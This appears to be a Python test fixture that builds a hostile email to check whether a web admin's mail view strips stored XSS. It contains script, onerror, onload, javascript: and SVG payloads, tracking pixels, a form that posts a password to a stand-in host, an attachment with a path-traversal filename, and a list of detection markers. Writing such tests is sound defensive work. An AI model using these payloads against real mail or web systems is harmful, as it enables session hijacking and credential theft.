"""A stored-XSS email: every trick a hostile sender might try on a web admin."""

from __future__ import annotations

import email.policy
from email.message import EmailMessage

HOSTILE_HTML = """<html><head><style>body{background:url(http://evil.example/css.png)}</style>
<script>window.parent.pwned = 1; document.title = "PWNED-SCRIPT"</script></head>
<body onload="document.title='PWNED-ONLOAD'">
<p>Hello <b>support</b></p>
<img src="x" onerror="document.title='PWNED-ONERROR'">
<a href="javascript:document.title='PWNED-LINK'" id="jslink">click me</a>
<img src="http://tracker.example/pixel.gif" alt="tracker">
<div style="background-image:url(http://evil.example/x.png)">styled</div>
<iframe src="http://evil.example/frame"></iframe>
<svg><script>document.title='PWNED-SVG'</script></svg>
<form action="http://evil.example/steal"><input name="password"></form>
</body></html>"""

MARKERS = ("<script", "onerror", "onload", "javascript:", "evil.example", "<iframe", "<form")


def hostile_mail(sender: str = "mallory@client.example", to: str = "support@example.com") -> bytes:
    msg = EmailMessage(policy=email.policy.SMTP)
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = "<script>document.title='PWNED-SUBJECT'</script> invoice"
    msg["Message-ID"] = "<hostile-1@client.example>"
    msg.set_content("Plain part <script>alert('PWNED-TEXT')</script>")
    msg.add_alternative(HOSTILE_HTML, subtype="html")
    msg.add_attachment(
        b"<html><script>alert(1)</script></html>",
        maintype="text",
        subtype="html",
        filename='../../etc/evil".html',
    )
    return msg.as_bytes()
